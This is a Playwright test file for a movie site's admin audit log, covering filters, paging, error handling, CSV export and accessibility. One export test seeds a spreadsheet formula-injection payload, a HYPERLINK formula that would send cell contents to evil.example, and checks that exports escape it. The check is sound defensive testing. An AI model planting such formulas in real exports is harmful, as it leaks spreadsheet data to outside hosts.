import { readFile } from 'node:fs/promises'
import { AxeBuilder } from '@axe-core/playwright'
import type { Locator, Page } from '@playwright/test'
import type { DeskMovie } from '../packages/contract/src/desk-movies.ts'
import { type Admin, aLoggedInAdmin, askAsAdmin, openDesk, rememberAdmin } from './at-the-desk.ts'
import { readCsv } from './csv.ts'
import { askDatabase } from './database.ts'
import { expect, here, openIn, test, themes, untilHydrated, withFault, withoutFault } from './house.ts'
import { aLoggedInMember } from './members.ts'
import { aSubscriber } from './premium.ts'

test.use({ expectedTrouble: /status of (401|500|503)|ERR_EMPTY_RESPONSE/ })

let admin: Admin
test.beforeAll(async () => void (admin = await aLoggedInAdmin()))

const panel = (page: Page) => page.getByRole('tabpanel')
const entries = (page: Page) =>
  panel(page)
    .getByRole('row')
    .filter({ has: page.getByRole('button', { name: /^Details: / }) })
/** One that was done to something of this name. */
const entry = (page: Page, action: string, target: string) =>
  entries(page).filter({ hasText: action }).filter({ hasText: target })
const open = async (row: Locator) => {
  const button = row.getByRole('button')
  await button.click()
  await expect(button).toHaveAttribute('aria-expanded', 'true')
}
/** What stands below the entry that is open: field, before and after. */
const changes = async (page: Page) =>
  await Promise.all(
    (await panel(page).locator('table table tbody tr').all()).map((row) => row.locator('th, td').allInnerTexts()),
  )

let made = 0
const draft = (title: string) => ({
  title,
  description: 'A clerk finds a letter that was never sent, and spends a winter looking for the one it was meant for.',
  genres: ['Drama'],
  year: 1999,
  rating: 7.1,
  imageUrl: `${here().url}/placeholder-movie.jpg`,
  videoUrl: `${here().url}/no-such-trailer.mp4`,
})
const aTitle = (name: string) => `${name} ${process.pid.toString(36)}${made++}`
/** What is added here is taken away again. */
const added = new Set<string>()
const addMovie = async (by: Admin, title: string) => {
  const { movie } = await askAsAdmin<{ movie: DeskMovie }>(by, 'POST', '/api/movies', draft(title))
  added.add(movie._id)
  return movie
}
const takeAway = async (by: Admin, id: string) => {
  added.delete(id)
  await askAsAdmin(by, 'DELETE', `/api/movies/${id}`)
}
test.afterEach(async () => {
  for (const id of added) await takeAway(admin, id)
})

test('what is done at the desk stands on record: who, what, before and after, when and from where', async ({
  page,
  isMobile,
}) => {
  test.slow()
  const own = await aLoggedInAdmin()
  const title = aTitle('The Letter')
  const movie = await addMovie(own, title)
  const later = `${title} Found`
  await askAsAdmin(own, 'PUT', `/api/movies/${movie._id}`, {
    ...draft(later),
    year: 2001,
    description: draft(later).description.replace('a winter', 'two long winters'),
  })
  await takeAway(own, movie._id)

  await openDesk(page, own, 'tab=record&by=me')
  const changed = entry(page, 'Changed a movie', later)
  await expect(changed).toBeVisible()
  await expect(changed.getByText(own.email)).toBeVisible()
  const when = changed.locator('time')
  await expect(when).toHaveText(/just now|minute/)
  await expect(when).toHaveAttribute('title', /\d{4}.*\d\d:\d\d/)
  if (!isMobile) await expect(changed.getByText(/^(10\.|127\.|::)/)).toBeVisible()
  await expect(changed.getByRole('link', { name: later })).toHaveAttribute(
    'href',
    new RegExp(`tab=movie&id=${movie._id}$`),
  )

  // Only what changed, in words; a long text shows the words that did.
  await open(changed)
  // Without pointing at anything.
  await expect(panel(page).getByText(/^Entry \d+ · \d+ \w+ \d{4}, \d\d:\d\d:\d\d UTC/)).toBeVisible()
  const shown = await changes(page)
  expect(shown).toContainEqual(['Title', title, later])
  expect(shown).toContainEqual(['Year', '1999', '2001'])
  expect(shown.map(([field]) => field).toSorted()).toEqual(['Description', 'Title', 'Year'])
  const text = panel(page).getByRole('row', { name: /^Description/ })
  await expect(text.locator('del')).toHaveText(/^a winter/)
  await expect(text.locator('ins')).toHaveText(/^two long winters/)

  // By keys, and closed again.
  const button = changed.getByRole('button')
  await button.focus()
  await page.keyboard.press('Enter')
  await expect(panel(page).locator('table table')).toHaveCount(0)
  await expect(button).toHaveAttribute('aria-expanded', 'false')

  await open(entry(page, 'Added a movie', title).filter({ hasNotText: 'Found' }))
  expect(await changes(page)).toContainEqual(['Genres', 'Drama'])
  await open(entry(page, 'Deleted a movie', later))
  await expect(entry(page, 'Deleted a movie', later).getByRole('link')).toHaveAttribute('href', /state=deleted/)
  await expect(entry(page, 'Logged in to the desk', own.email)).toBeVisible()
})

test('a person on record leads to their details', async ({ page }) => {
  test.slow()
  const member = await aSubscriber(page, 'monthly')
  await askAsAdmin(admin, 'POST', '/api/cancel-subscription', { userId: member.id, reason: 'Admin cancelled' })
  await openDesk(page, admin, 'tab=record&action=subscription.cancel')
  const row = entry(page, 'Cancelled a subscription', member.username)
  await open(row)
  await expect(panel(page).locator('table table')).toContainText('Admin cancelled')
  await row.getByRole('link').click()
  await expect(page).toHaveURL(new RegExp(`person=${member.id}`))
  await expect(page.getByRole('dialog')).toContainText(member.username)
})

test('filters by action and by who, kept in the address; what fits nothing says so', async ({ page }) => {
  test.slow()
  const [own, other] = [await aLoggedInAdmin(), await aLoggedInAdmin()]
  const mine = aTitle('Mine')
  const theirs = aTitle('Theirs')
  const movie = await addMovie(own, mine)
  const { _id: foreign } = await addMovie(other, theirs)
  await takeAway(other, movie._id)
  await takeAway(other, foreign)
  await openDesk(page, own, 'tab=record')
  await expect(entry(page, 'Added a movie', mine)).toBeVisible()
  await expect(entry(page, 'Added a movie', theirs)).toBeVisible()

  await panel(page).getByRole('radio', { name: 'Only mine' }).click({ force: true })
  await expect(page).toHaveURL(/by=me/)
  await expect(entry(page, 'Added a movie', mine)).toBeVisible()
  await expect(entry(page, 'Added a movie', theirs)).toHaveCount(0)
  await expect(entry(page, 'Logged in to the desk', own.email)).toBeVisible()

  const action = panel(page).getByRole('combobox', { name: 'Action' })
  await action.selectOption('Added a movie')
  await expect(page).toHaveURL(/action=movie\.add/)
  await expect(entries(page)).toHaveCount(1)
  await page.reload()
  await expect(entries(page)).toHaveCount(1)
  await expect(action).toHaveValue('movie.add')
  await expect(panel(page).getByText('That is all there is on record.')).toBeVisible()

  await action.selectOption('Restored a movie')
  await expect(panel(page).getByText('Nothing on record fits.')).toBeVisible()
  await page.goBack()
  await expect(entries(page)).toHaveCount(1)
  await action.selectOption('Restored a movie')
  await panel(page).getByRole('button', { name: 'Clear filters' }).click()
  await expect(entry(page, 'Added a movie', theirs)).toBeVisible()

  // Everything about one movie.
  await page.goto(`/admin/dashboard?tab=record&about=${movie._id}`)
  await expect(entries(page)).toHaveCount(2)
  await expect(entry(page, 'Added a movie', mine)).toBeVisible()
})

test('Show older brings the rest, each once and none left out', async ({ page }) => {
  test.slow()
  const own = await aLoggedInAdmin()
  const [me] = await askDatabase<{ id: string }>('select id from users where email = $1', [own.email])
  const movie = await addMovie(own, aTitle('Often'))
  for (let year = 1930; year < 1985; year++)
    await askAsAdmin(own, 'PUT', `/api/movies/${movie._id}`, { ...draft(movie.title), year })
  await openDesk(page, own, 'tab=record&by=me')
  await expect(entries(page)).toHaveCount(25)
  const older = panel(page).getByRole('button', { name: 'Show older' })

  await withFault(page, 'GET /api/admin/record 503')
  await older.click()
  await expect(page.getByText('Failed to load older entries')).toBeVisible()
  // On a phone it stands over the button.
  await page.getByRole('region', { name: 'Notifications' }).getByRole('button', { name: 'Close' }).click()
  await expect(entries(page)).toHaveCount(25)
  await withoutFault(page)
  await older.click()
  await expect(entries(page)).toHaveCount(50)
  await older.click()
  await expect(panel(page).getByText('That is all there is on record.')).toBeVisible()
  await expect(older).toHaveCount(0)
  await expect(panel(page).getByText('That is all there is on record.')).toBeFocused()
  const [{ count } = { count: 0 }] = await askDatabase<{ count: number }>(
    'select count(*)::integer as count from desk_record where actor_id = $1',
    [me!.id],
  )
  await expect(entries(page)).toHaveCount(count)
})

test('a record that cannot be loaded says so and tries again', async ({ page }) => {
  test.slow()
  await openDesk(page, admin, 'tab=record')
  await expect(entries(page).first()).toBeVisible()
  await withFault(page, 'GET /api/admin/record 503')
  await page.reload()
  await expect(panel(page).getByText('Failed to load the record')).toBeVisible()
  await withoutFault(page)
  await panel(page).getByRole('button', { name: 'Try Again' }).click()
  await expect(entries(page).first()).toBeVisible()

  await page.route('**/api/admin/record?*', (route) => route.fulfill({ json: { entries: [], next: null } }))
  await page.route('**/api/admin/record', (route) => route.fulfill({ json: { entries: [], next: null } }))
  await page.reload()
  await expect(panel(page).getByText('Nothing has been done at the desk yet.')).toBeVisible()
})

/** Presses the button and opens what was saved. */
async function exported(page: Page, name: RegExp) {
  const saved = page.waitForEvent('download')
  await panel(page).getByRole('button', { name: 'Export CSV' }).click()
  const download = await saved
  expect(download.suggestedFilename()).toMatch(name)
  const bytes = await readFile(await download.path())
  await expect(page.getByText(`${download.suggestedFilename()} has been saved.`)).toBeVisible()
  // What a spreadsheet knows UTF-8 by.
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  const text = bytes.subarray(3).toString('utf8')
  expect(text.endsWith('\r\n')).toBe(true)
  const [head = [], ...rows] = readCsv(text)
  expect(rows.every((row) => row.length === head.length)).toBe(true)
  return { head, rows }
}

test('movies, subscribers and the record are taken along as CSV, and no cell is a formula', async ({ page }) => {
  test.slow()
  const own = await aLoggedInAdmin()
  const formula = `=HYPERLINK("https://evil.example/?x="&A1,"Click, ${process.pid}.${made++}")`
  await addMovie(own, formula)
  const member = await aLoggedInMember(page.request)
  await aSubscriber(page, 'yearly')

  await openDesk(page, own, 'tab=movies')
  const movies = await exported(page, /^movies-\d{4}-\d\d-\d\d\.csv$/)
  const titles = movies.rows.map((row) => row[movies.head.findIndex((name) => /title/i.test(name))])
  expect(titles).toContain(`'${formula}`)

  await page.goto('/admin/dashboard?tab=subscribers&plan=yearly')
  await expect(panel(page).locator('tbody tr').first()).toBeVisible()
  const people = await exported(page, /^subscribers-\d{4}-\d\d-\d\d\.csv$/)
  expect(people.rows.length).toBeGreaterThan(5)
  const plan = people.head.findIndex((name) => /plan|type/i.test(name))
  expect(new Set(people.rows.map((row) => row[plan]?.toLowerCase()))).toEqual(new Set(['yearly']))
  expect(JSON.stringify(people.rows)).not.toContain(member.email)

  await page.goto('/admin/dashboard?tab=record&by=me')
  await expect(entry(page, 'Exported movies', '')).toBeVisible()
  await expect(entry(page, 'Exported subscribers', '')).toBeVisible()
  const record = await exported(page, /^record-\d{4}-\d\d-\d\d\.csv$/)
  expect(JSON.stringify(record.rows)).toContain('movie.add')

  for (const { rows } of [movies, people, record])
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\t\r＝＋－＠]/)
})

test('an export that fails says so, and nothing is saved', async ({ page }) => {
  await openDesk(page, admin, 'tab=record')
  let saved = 0
  page.on('download', () => saved++)
  const button = panel(page).getByRole('button', { name: 'Export CSV' })
  for (const fault of ['503', 'drop']) {
    await withFault(page, `GET /api/admin/record.csv ${fault}`)
    await button.click()
    await expect(page.getByText('Failed to export. Please try again.').first()).toBeVisible()
    await expect(button).toBeEnabled()
  }
  await withFault(page, 'GET /api/admin/record.csv delay 1500')
  await button.click()
  await expect(panel(page).getByRole('button', { name: 'Exporting...' })).toHaveAttribute('aria-disabled', 'true')
  await expect(button).toBeVisible()
  expect(saved).toBe(1)
})

test('a session that has ended is said once, and nothing of the desk stays', async ({ page }) => {
  const own = await aLoggedInAdmin()
  await openDesk(page, own, 'tab=record')
  await expect(entries(page).first()).toBeVisible()
  await askAsAdmin(own, 'POST', '/api/admin/logout').catch(() => {})
  await panel(page).getByRole('button', { name: 'Export CSV' }).click()
  await expect(page).toHaveURL('/admin/login')
  await expect(page.getByText('Session expired. Please login again.').first()).toBeVisible()
  await expect(page.getByText('Failed to export. Please try again.')).toHaveCount(0)
})

async function noViolations(page: Page) {
  const { violations } = await new AxeBuilder({ page })
    .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22a', 'wcag22aa', 'best-practice'])
    .analyze()
  expect(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ target }) => target.join(' ')).join()}`)).toEqual([])
}

for (const theme of themes) {
  test(`THEME-5 axe finds nothing wrong with the record in ${theme}`, async ({ page }) => {
    test.slow()
    const { _id: id } = await addMovie(admin, aTitle('Axe'))
    await takeAway(admin, id)
    await rememberAdmin(page, admin)
    await openIn(page, theme, '/admin/dashboard?tab=record&action=movie.add')
    await untilHydrated(page)
    await expect(entries(page).first()).toBeVisible({ timeout: 20_000 })
    await open(entries(page).first())
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true)
    await noViolations(page)
  })
}
